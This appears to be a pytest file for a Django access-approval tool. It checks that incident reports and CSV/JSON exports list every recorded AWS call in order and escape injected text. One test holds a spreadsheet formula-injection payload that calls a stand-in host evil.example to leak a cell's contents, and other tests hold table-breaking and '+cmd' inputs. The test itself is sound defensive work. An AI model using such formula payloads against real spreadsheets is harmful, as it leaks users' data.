"""The incident report's "Commands executed" and the exports carry every AWS call of the
request's sessions, in order, as the reviewer downloads them."""

import csv
import io
import json
from datetime import timedelta

from django.urls import reverse
from django.utils import timezone

from approvals.models import AccessRequest, ActivityLookupCursor, Status
from approvals.models.activity import history_regions
from approvals.transitions import request_transition
from tests.activity_calls import calls_record
from tests.web.helpers import active

READ = {"service": "s3", "action": "ListBuckets", "read_only": True}
DESCRIBE = {"service": "ec2", "action": "DescribeInstances", "read_only": True}
WRITE = {
    "service": "s3",
    "action": "CreateBucket",
    "read_only": False,
    "parameters": {"bucketName": "incident-evidence"},
    "resources": [{"type": "AWS::S3::Bucket", "ARN": "arn:aws:s3:::incident-evidence"}],
}
DENIED = {
    "service": "sqs",
    "action": "CreateQueue",
    "read_only": False,
    "error_code": "AccessDenied",
    "parameters": {"queueName": "backdoor"},
}


def revoke(access_request: AccessRequest, *, at=None) -> AccessRequest:
    """End an ACTIVE request through the real transitions (revoked at `at`, default now)."""
    at = at or timezone.now()
    request_transition(
        access_request=access_request,
        to_status=Status.REVOKING,
        code="approvals.revocation.requested",
        fields={"revoke_requested_at": at},
    )
    request_transition(
        access_request=access_request,
        to_status=Status.REVOKED,
        code="approvals.request.revoked",
        fields={"revoked_at": at},
    )
    return access_request


def revoked(cast) -> AccessRequest:
    return revoke(active(cast))


def download(client, name: str, access_request, fmt: str) -> str:
    response = client.get(reverse(name, args=[access_request.pk, fmt]))
    assert response.status_code == 200, response.content
    return response.content.decode()


def finished_with_calls(cast) -> tuple[AccessRequest, object]:
    access_request = active(cast)
    start = access_request.activated_at.replace(microsecond=0)
    calls_record(access_request, READ, DESCRIBE, WRITE, DENIED, start=start)
    revoke(access_request, at=start + timedelta(seconds=30))
    # After revocation the session is refused: evidence the revocation worked, not an alarm.
    calls_record(
        access_request, READ | {"error_code": "AccessDenied"}, start=start + timedelta(minutes=5)
    )
    return access_request, start


def test_the_json_report_lists_every_call_in_order_with_counts_by_service(cast, as_user):
    access_request, start = finished_with_calls(cast)

    report = json.loads(download(as_user(cast.auditor), "request_report", access_request, "json"))

    commands = report["commands_executed"]
    assert commands["count"] == 5
    assert [
        (c["service"], c["action"], c["outcome"], c["mutating"]) for c in commands["calls"]
    ] == [
        ("s3", "ListBuckets", "allowed", False),
        ("ec2", "DescribeInstances", "allowed", False),
        ("s3", "CreateBucket", "allowed", True),
        ("sqs", "CreateQueue", "denied", True),
        ("s3", "ListBuckets", "denied", False),
    ]
    write = commands["calls"][2]
    assert write["event_time"] == (start + timedelta(seconds=2)).isoformat()
    assert write["resource_summary"] == "arn:aws:s3:::incident-evidence"
    assert write["source_ip"] == "198.51.100.24"
    assert all(c["sealed_by"] is not None for c in commands["calls"])
    assert commands["by_service"] == [
        {"service": "s3", "calls": 3, "mutating": 1, "errors": 1},
        {"service": "ec2", "calls": 1, "mutating": 0, "errors": 0},
        {"service": "sqs", "calls": 1, "mutating": 1, "errors": 1},
    ]
    assert commands["complete_until"] is None
    assert "activity" not in report  # moved under commands_executed, not repeated
    assert report["chain_verified"] is True


def test_the_markdown_report_has_a_commands_executed_section(cast, as_user):
    access_request, start = finished_with_calls(cast)

    markdown = download(as_user(cast.requester), "request_report", access_request, "md")

    section = markdown.split("## Commands executed", 1)[1].split("## Alarms", 1)[0]
    table = [line for line in section.splitlines() if line.startswith("| ") and line[2].isdigit()]
    assert [line.split(" | ")[2:4] for line in table] == [
        ["s3", "ListBuckets"],
        ["ec2", "DescribeInstances"],
        ["s3", "CreateBucket"],
        ["sqs", "CreateQueue"],
        ["s3", "ListBuckets"],
    ]
    assert table[2] == (
        f"| 3 | {(start + timedelta(seconds=2)).isoformat()} | s3 | CreateBucket | "
        "arn:aws:s3:::incident-evidence | 198.51.100.24 | allowed | yes |"
    )
    assert table[3].endswith(
        "| queueName=backdoor | 198.51.100.24 | **denied** (AccessDenied) | yes |"
    )
    assert "| s3 | 3 | 1 | 1 |" in section
    assert "| ec2 | 1 | 0 | 0 |" in section
    assert "Completeness not confirmed against CloudTrail LookupEvents" in section


def test_the_report_says_up_to_when_the_backstop_vouches_for_the_list(cast, as_user):
    access_request, start = finished_with_calls(cast)
    client = as_user(cast.auditor)
    until = start + timedelta(minutes=10)
    # What the LookupEvents backstop leaves once it has read every region's history to `until`.
    for region in history_regions(access_request.profile):
        ActivityLookupCursor.objects.create(
            profile=access_request.profile,
            region=region,
            covered_from=access_request.created_at - timedelta(minutes=1),
            complete_until=until,
        )

    report = json.loads(download(client, "request_report", access_request, "json"))
    markdown = download(client, "request_report", access_request, "md")

    assert report["commands_executed"]["complete_until"] == until.isoformat()
    assert f"Activity complete up to {until.isoformat()}: CloudTrail's event history" in markdown
    assert "Completeness not confirmed" not in markdown


def test_a_request_whose_sessions_made_no_call_says_so(cast, as_user):
    access_request = revoked(cast)

    markdown = download(as_user(cast.requester), "request_report", access_request, "md")

    assert "## Commands executed" in markdown
    assert "No calls recorded." in markdown


def test_text_from_the_session_cannot_break_the_reports_tables(cast, as_user):
    access_request = revoked(cast)
    calls_record(
        access_request,
        WRITE | {"parameters": {"bucketName": "a | fake | row\n| 9 | x |"}, "resources": []},
    )

    markdown = download(as_user(cast.auditor), "request_report", access_request, "md")

    section = markdown.split("## Commands executed", 1)[1].split("## Alarms", 1)[0]
    [row] = [line for line in section.splitlines() if line.startswith("| 1 |")]
    assert "bucketName=a \\| fake \\| row \\| 9 \\| x \\|" in row
    assert not any(line.startswith("| 9 |") for line in section.splitlines())


def test_the_exports_carry_the_calls_as_rows_after_the_timeline(cast, as_user):
    access_request, start = finished_with_calls(cast)
    client = as_user(cast.alice)

    record = json.loads(download(client, "request_export", access_request, "json"))
    rows = list(
        csv.DictReader(io.StringIO(download(client, "request_export", access_request, "csv")))
    )

    assert [call["action"] for call in record["activity"]] == [
        "ListBuckets",
        "DescribeInstances",
        "CreateBucket",
        "CreateQueue",
        "ListBuckets",
    ]
    timeline = [row for row in rows if row["kind"] == "timeline"]
    calls = [row for row in rows if row["kind"] == "call"]
    assert rows == timeline + calls
    assert len(timeline) == len(record["timeline"])
    assert [row["code"] for row in calls] == [
        "s3:ListBuckets",
        "ec2:DescribeInstances",
        "s3:CreateBucket",
        "sqs:CreateQueue",
        "s3:ListBuckets",
    ]
    write = calls[2]
    assert write["at"] == (start + timedelta(seconds=2)).isoformat()
    assert (write["service"], write["action"], write["outcome"]) == (
        "s3",
        "CreateBucket",
        "allowed",
    )
    assert write["resources"] == "arn:aws:s3:::incident-evidence"
    assert write["source_ip"] == "198.51.100.24"
    assert write["mutating"] == "True"
    assert write["event_id"] == record["activity"][2]["event_id"]
    assert json.loads(write["detail"])["request_parameters"] == {"bucketName": "incident-evidence"}
    assert (calls[3]["outcome"], calls[3]["error_code"]) == ("denied", "AccessDenied")
    assert write["sealed_by"] == str(record["activity"][2]["sealed_by"])


def test_a_formula_a_session_sent_is_neutralised_in_the_csv(cast, as_user):
    access_request = revoked(cast)
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
    calls_record(
        access_request,
        WRITE | {"user_agent": formula, "parameters": {"bucketName": "+cmd"}, "resources": []},
    )

    rows = list(
        csv.DictReader(
            io.StringIO(download(as_user(cast.auditor), "request_export", access_request, "csv"))
        )
    )

    [call] = [row for row in rows if row["kind"] == "call"]
    assert call["user_agent"] == "'" + formula
    assert call["resources"] == "bucketName=+cmd"  # not at the start of the cell: inert
